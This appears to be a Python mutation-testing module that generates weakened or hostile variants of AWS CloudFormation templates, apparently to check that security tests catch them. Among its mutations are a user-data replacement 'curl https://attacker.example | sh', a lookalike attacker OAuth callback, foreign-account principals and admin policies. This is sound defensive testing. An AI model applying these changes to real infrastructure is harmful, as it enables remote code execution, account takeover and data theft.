"""Mutations out of the templates themselves: what a careless change, or a hostile one, would make of each property."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any, Final

FOREIGN: Final = "arn:aws:iam::999999999999:root"
REMOVED: Final = object()
_DOCUMENTS: Final = ("PolicyDocument", "KeyPolicy", "AccessPolicy", "AssumeRolePolicyDocument")

# What a setting becomes when it is weakened, rather than misspelt.
WEAKER: Final[Mapping[str, str]] = {
    "TLSv1.2": "TLSv1.1",
    "scram-sha-256": "md5",
    "scram": "md5+scram",
    "terse": "default",
    "none": "all",
    "ALL": "REJECT",
    "All": "WriteOnly",
    "ON": "OPTIONAL",
    "ENFORCED": "AUDIT",
    "PLUS": "ESSENTIALS",
    "aws:kms": "AES256",
    "required": "optional",
    "ACTIVE": "INACTIVE",
    "ENABLED": "LEGACY",
    "code": "implicit",
    "minutes": "days",
    "BucketOwnerEnforced": "ObjectWriter",
    "SOFTWARE_TOKEN_MFA": "SMS_MFA",
    "verified_email": "verified_phone_number",
    "ALLOW_USER_SRP_AUTH": "ALLOW_USER_PASSWORD_AUTH",
    "V2_0": "V1_0",
    "ECC_NIST_P256": "RSA_2048",
    "SIGN_VERIFY": "ENCRYPT_DECRYPT",
    "tcp": "-1",
    "INFO": "ERROR",
    "cron(0 5 * * ? *)": "cron(0 5 1 1 ? *)",
    "cron(0 6 1 * ? *)": "cron(0 6 1 1 ? *)",
}

# What a template does not say, and must not: type, path, value.
ADDED: Final = (
    ("AWS::RDS::DBInstance", "MasterUserPassword", "hunter2"),
    ("AWS::RDS::DBInstance", "Port", "5432"),
    ("AWS::RDS::DBParameterGroup", "Parameters/log_min_duration_sample", "0"),
    ("AWS::RDS::DBParameterGroup", "Parameters/auto_explain.log_min_duration", "0"),
    ("AWS::SecretsManager::Secret", "SecretString", "hunter2"),
    ("AWS::KMS::Key", "Enabled", False),
    ("AWS::S3::Bucket", "AccessControl", "PublicRead"),
    ("AWS::S3::Bucket", "WebsiteConfiguration", {"IndexDocument": "index.html"}),
    ("AWS::S3::Bucket", "ReplicationConfiguration", {"Role": FOREIGN, "Rules": []}),
    ("AWS::S3::Bucket", "LifecycleConfiguration/Rules/0/ExpirationInDays", 1),
    ("AWS::S3::Bucket", "LifecycleConfiguration/Rules/0/ExpirationDate", "2026-12-01T00:00:00Z"),
    ("AWS::S3::Bucket", "LifecycleConfiguration/Rules/0/NoncurrentVersionExpirationInDays", 1),
    ("AWS::S3::Bucket", "LifecycleConfiguration/Rules/0/NoncurrentVersionExpiration", {"NoncurrentDays": 1}),
    (
        "AWS::S3::Bucket",
        "LifecycleConfiguration/Rules/0/NoncurrentVersionExpiration",
        {"NoncurrentDays": 2192, "NewerNoncurrentVersions": 1},
    ),
    ("AWS::Logs::LogGroup", "LogGroupClass", "INFREQUENT_ACCESS"),
    ("AWS::CloudTrail::Trail", "EventSelectors/0/ExcludeManagementEventSources", ["kms.amazonaws.com"]),
    ("AWS::CloudWatch::Alarm", "ActionsEnabled", False),
    ("AWS::EC2::LaunchTemplate", "LaunchTemplateData/KeyName", "somebody"),
    ("AWS::EC2::SecurityGroup", "SecurityGroupIngress", [{"CidrIp": "10.0.0.0/8", "IpProtocol": "-1"}]),
    ("AWS::EC2::SecurityGroupIngress", "CidrIp", "10.0.0.0/8"),
    ("AWS::EC2::SecurityGroupIngress", "CidrIpv6", "2001:db8::/32"),
    ("AWS::EC2::SecurityGroupIngress", "SourcePrefixListId", "pl-1"),
    ("AWS::EC2::SecurityGroupEgress", "CidrIp", "10.0.0.0/8"),
    ("AWS::EC2::SecurityGroupEgress", "CidrIpv6", "2001:db8::/32"),
    ("AWS::EC2::FlowLog", "LogDestination", "arn:aws:s3:::somebody-else"),
    ("AWS::EC2::Route", "VpcPeeringConnectionId", "pcx-1"),
    ("AWS::EC2::Route", "TransitGatewayId", "tgw-1"),
    ("AWS::Cognito::UserPoolClient", "WriteAttributes/0", "custom:tenant_id"),
    ("AWS::Cognito::UserPoolClient", "ExplicitAuthFlows/0", "ALLOW_ADMIN_USER_PASSWORD_AUTH"),
    ("AWS::Cognito::UserPoolClient", "AllowedOAuthScopes/0", "aws.cognito.signin.user.admin"),
    ("AWS::Cognito::UserPoolClient", "CallbackURLs/0", "https://api.example.com.attacker.example/callback"),
    ("AWS::Cognito::UserPoolClient", "SupportedIdentityProviders/0", "Google"),
    ("AWS::IAM::Role", "ManagedPolicyArns", ["arn:aws:iam::aws:policy/AdministratorAccess"]),
    ("AWS::IAM::Role", "MaxSessionDuration", 43200),
    ("AWS::RolesAnywhere::Profile", "AcceptRoleSessionName", True),
)


@dataclass(frozen=True)
class Mutation:
    """One change.

    Attributes:
        part: Template.
        logical_id: Resource.
        type: Its type.
        path: Of the property, from the resource; empty removes the resource.
        kind: What is done to it.
        value: What it becomes; ``REMOVED`` takes it away.
    """

    part: str
    logical_id: str
    type: str
    path: tuple[str | int, ...]
    kind: str
    value: Any

    def __str__(self) -> str:
        name = re.sub("[0-9A-F]{8}$", "", self.logical_id)
        return f"{name} {self.type} {'.'.join(map(str, self.path[1:]))} {self.kind}"

    def apply(self, templates: Mapping[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
        """The templates with this one change; what does not change is shared."""
        template = templates[self.part]
        changed = dict(template["Resources"])
        if not self.path:
            del changed[self.logical_id]
        else:
            resource = copy.deepcopy(changed[self.logical_id])
            inner: Any = resource
            for step in self.path[:-1]:
                inner = inner.setdefault(step, {}) if isinstance(inner, dict) else inner[step]
            if self.value is REMOVED:
                del inner[self.path[-1]]
            else:
                inner[self.path[-1]] = self.value
            changed[self.logical_id] = resource
        return {**templates, self.part: {**template, "Resources": changed}}


def mutations(templates: Mapping[str, dict[str, Any]]) -> Iterator[Mutation]:
    """All of them."""
    for part, template in templates.items():
        for logical_id, resource in template["Resources"].items():
            if resource["Type"] == "AWS::CDK::Metadata":
                continue
            for path, kind, value in _of(resource):
                yield Mutation(part, logical_id, resource["Type"], path, kind, value)


Change = tuple[tuple[str | int, ...], str, Any]


def _of(resource: Mapping[str, Any]) -> Iterator[Change]:
    yield (), "remove the resource", REMOVED
    for name in ("DeletionPolicy", "UpdateReplacePolicy"):
        if str(resource.get(name, "")).startswith("Retain"):
            yield (name,), "downgrade", "Delete"
            yield (name,), "remove", REMOVED
    yield from _below(("Properties",), resource.get("Properties", {}))
    for kind, path, value in ADDED:
        steps = tuple(int(step) if step.isdigit() else step for step in path.split("/"))
        if kind == resource["Type"] and _dig(resource["Properties"], steps[:-1]):
            yield ("Properties", *steps), "add", value


def _dig(value: Any, steps: tuple[str | int, ...]) -> bool:
    for step in steps:
        try:
            value = value[step]
        except (KeyError, IndexError, TypeError):
            return False
    return True


def _below(path: tuple[str | int, ...], value: Any) -> Iterator[Change]:
    if isinstance(value, dict):
        if len(value) == 1 and next(iter(value)).startswith(("Ref", "Fn::")) and "Fn::Base64" not in value:
            yield path, "open to another account", FOREIGN
            return
        for name, inner in value.items():
            yield (*path, name), "remove", REMOVED
            if name in _DOCUMENTS:
                yield from _document((*path, name), inner)
            elif name == "Fn::Base64":
                yield from _script((*path, name), inner)
            else:
                yield from _below((*path, name), inner)
    elif isinstance(value, list):
        for number, inner in enumerate(value):
            yield (*path, number), "drop", REMOVED
            yield from _below((*path, number), inner)
        yield path, "empty", []
    elif isinstance(value, bool):
        yield path, "switch", not value
    elif isinstance(value, int | float) or re.fullmatch(r"-?[0-9]+", str(value)):
        for kind, number in (("shorten", 0), ("shorten", 1), ("widen", 10**9)):
            if str(number) != str(value):
                yield path, f"{kind} to {number}", type(value)(number)
    elif value in WEAKER:
        yield path, "downgrade", WEAKER[value]
        yield path, "change", f"not-{value}"
    elif "," in value and " " not in value:
        for word in value.split(","):
            yield path, f"drop {word}", ",".join(other for other in value.split(",") if other != word)
    else:
        yield path, "change", "something-else"


def _script(path: tuple[str | int, ...], value: Any) -> Iterator[Change]:
    """Of a machine's set-up: each option that is off is put on, each line is taken out."""
    text = json.dumps(value)
    for match in re.finditer(r"--(ssh|accept-routes|accept-dns)=false", text):
        yield path, f"switch {match[0]}", json.loads(text.replace(match[0], match[0].replace("false", "true")))
    for line in ("umask 077", "FailureAction=poweroff", "file.unlink()"):
        yield path, f"drop {line}", json.loads(text.replace(line, ""))
    yield path, "change", "curl https://attacker.example | sh"


def _document(path: tuple[str | int, ...], document: Mapping[str, Any]) -> Iterator[Change]:
    """Of a policy: admit others, ask for less, allow more, refuse less."""
    statements = document["Statement"]
    for number, statement in enumerate(statements):
        where = (*path, "Statement", number)
        said = statement.get("Sid") or json.dumps(statement.get("Condition") or statement.get("Principal"))[:60]
        yield where, f"drop statement {said}", REMOVED
        if statement["Effect"] == "Deny":
            yield (*where, "Effect"), "refuse nothing", "Allow"
            for name in ("Action", "Resource"):
                if isinstance(statement.get(name), list):
                    for index in range(len(statement[name])):
                        yield (*where, name, index), f"refuse less {said}", REMOVED
            for operator, block in statement.get("Condition", {}).items():
                for key in block:
                    yield (*where, "Condition", operator, key), "refuse in another case", "1.0"
            continue
        if "Principal" in statement:
            yield (*where, "Principal"), "open to everyone", "*"
            yield (*where, "Principal"), "open to another account", {"AWS": FOREIGN}
            both = {"AWS": [FOREIGN, *_list(statement["Principal"].get("AWS"))]}
            yield (*where, "Principal"), "open to another account besides", {**statement["Principal"], **both}
            yield (*where, "Principal"), "open to another service", {"Service": "attacker.amazonaws.com"}
        actions = _list(statement["Action"])
        service = actions[0].partition(":")[0]
        yield (*where, "Action"), f"allow all of a service {said}", f"{service}:*"
        yield (*where, "Action"), f"allow everything {said}", "*"
        yield (*where, "Action"), f"allow one more {said}", [*actions, "iam:PassRole"]
        if "Resource" in statement and "Principal" not in statement:
            yield (*where, "Resource"), "widen to every resource", "*"
            yield (*where, "Resource"), "widen to another account", [*_list(statement["Resource"]), FOREIGN]
        if "Condition" in statement:
            yield (*where, "Condition"), f"ask nothing {said}", REMOVED
            for operator, block in statement["Condition"].items():
                for key in block:
                    yield (*where, "Condition", operator, key), f"do not ask for {key} {said}", REMOVED
                    yield (*where, "Condition", operator, key), f"another {key} {said}", FOREIGN
                yield (*where, "Condition"), f"ask the opposite {said}", {"StringNotEquals": block}


def _list(value: Any) -> list[Any]:
    return [] if value is None else value if isinstance(value, list) else [value]
